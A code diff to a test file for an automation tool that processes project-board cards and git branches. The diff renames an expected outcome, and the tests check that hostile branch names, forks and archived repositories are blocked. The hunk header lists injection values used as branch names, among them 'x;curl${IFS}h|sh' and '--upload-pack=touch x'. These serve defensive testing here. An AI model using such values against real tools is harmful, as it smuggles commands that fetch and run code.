@@ -233,7 +233,7 @@ HOSTILE_BRANCHES = ["x;curl${IFS}h|sh", "--upload-pack=touch x", "-f", "../../x"
 def test_hostile_branch_names_are_rejected(world: World) -> None:
     cards = [world.bare_card(branch) for branch in HOSTILE_BRANCHES]
     run = world.tick()
-    assert run.outcome == "NothingToDo"
+    assert run.outcome == "CardsPassedOver"
     assert [world.status(card) for card in cards] == ["Blocked"] * len(cards)
     assert len(world.comments()) == len(cards)
     assert all("How to fix" in comment for comment in world.comments())
@@ -258,7 +258,7 @@ def test_hostile_cards_are_rejected(world: World) -> None:
         board.add_card(world.project, None, type_="ISSUE", status="For Implementation"),
     ]
     run = world.tick()
-    assert (run.status, run.outcome, names(run).count("RejectWorkItem")) == ("SUCCEEDED", "NothingToDo", len(cards))
+    assert (run.status, run.outcome, names(run).count("RejectWorkItem")) == ("SUCCEEDED", "CardsPassedOver", len(cards))
     assert [world.status(card) for card in cards] == ["Blocked"] * len(cards)
     assert [world.status(card) for card in hidden] == ["For Implementation"] * len(hidden)
     causes = "\n".join(state.document["failure"]["cause"] for state in run.states if state.name == "RejectWorkItem")
@@ -270,7 +270,7 @@ def test_hostile_cards_are_rejected(world: World) -> None:
 def test_archived_repository_is_rejected(world: World) -> None:
     card = world.card()
     world.repository.is_archived = True
-    assert world.tick().outcome == "NothingToDo"
+    assert world.tick().outcome == "CardsPassedOver"
     assert world.status(card) == "Blocked"
 
 
@@ -281,7 +281,7 @@ def test_fork_is_rejected(world: World) -> None:
         world.repository, f"{world.organization}-volunteer:feature/sum", association="NONE", author="volunteer"
     )
     card = world.bare_card("feature/sum")
-    assert world.tick().outcome == "NothingToDo"
+    assert world.tick().outcome == "CardsPassedOver"
     assert world.status(card) == "Blocked"
     assert "comes from a fork" in "\n".join(world.comments())
 
@@ -295,6 +295,6 @@ def test_older_server_is_read_page_by_page(world: World) -> None:
         card = older.board.add_card(project, "A draft", status="For Implementation")
         world.configure(githubApiUrl=older.graphql_url)
         run = world.tick()
-        assert (run.outcome, [skipped["item"] for skipped in run.output["skipped"]]) == ("NothingToDo", [card.id])
+        assert (run.outcome, [skipped["item"] for skipped in run.output["skipped"]]) == ("CardsPassedOver", [card.id])
         # It reads two pages to find the card, and two more to find no other.
         assert len(older.requests.graphql("FetchPage")) == 4
